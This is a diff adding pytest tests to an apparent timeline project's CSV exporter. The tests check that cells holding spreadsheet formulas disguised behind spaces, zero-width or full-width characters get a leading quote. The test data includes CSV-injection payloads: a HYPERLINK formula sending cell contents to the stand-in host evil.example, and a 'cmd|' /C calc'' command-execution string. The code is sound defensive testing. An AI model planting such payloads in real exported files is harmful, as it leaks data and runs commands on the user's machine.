@@ -17,7 +17,7 @@ import pytest
 from jsonschema import Draft202012Validator
 
 from conftest import SITE_URL, make_project, real_dataset
-from timeline.export import events_csv, events_json
+from timeline.export import csv_cell, events_csv, events_json
 from timeline.project import validate
 from timeline.site import SiteInfo
 
@@ -176,3 +176,39 @@ def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(t
     # Only the CSV is meant for spreadsheets: the JSON keeps every text as it is.
     titles = {e["id"]: e["title"] for e in json.loads(events_json(data, site))["events"]}
     assert titles == {e.id: e.title for e in data.events}
+
+
+# Formulas behind what a spreadsheet skips or reads as plain "=", "+", "-" and "@".
+DISGUISED_FORMULAS = [
+    ' =HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "\u00a0\u2003=1+1",  # a no-break space and an em space
+    "\u200b=1+1",  # a zero-width space
+    "\uff1d1+1",  # FULLWIDTH EQUALS SIGN
+    "\uff0bcmd|' /C calc'!A0",
+    "\uff0d2+3",
+    "\uff20SUM(1+1)",
+    " \t=1+1",
+    "\ufe66" + "1+1",  # SMALL EQUALS SIGN
+]
+
+
+def test_csv_cells_with_a_formula_behind_spaces_or_in_full_width_start_with_a_quote(tmp_path: Path):
+    """Each disguised formula as an event's title, as many at a time as there are events;
+    the csv module reads every cell back as the text with a quote before it."""
+    result = validate(make_project(tmp_path / "project"))
+    assert result.dataset is not None, result.problems
+    data, size = result.dataset, len(result.dataset.events)
+    for start in range(0, len(DISGUISED_FORMULAS), size):
+        titles = DISGUISED_FORMULAS[start : start + size]
+        events = tuple(dataclasses.replace(e, title=t) for e, t in zip(data.events, titles, strict=False))
+        text = events_csv(dataclasses.replace(data, events=events), SiteInfo())
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        assert [row["title"] for row in rows[: len(titles)]] == ["'" + title for title in titles]
+
+
+ORDINARY = ["a = b", "  plain text", "\u00a0Myanmar", "41,000 suspects", "'quoted'", "", "\u2212 5"]
+
+
+@pytest.mark.parametrize("text", ORDINARY)
+def test_csv_cells_that_start_with_no_formula_are_kept_exactly(text: str):
+    assert csv_cell(text) == text
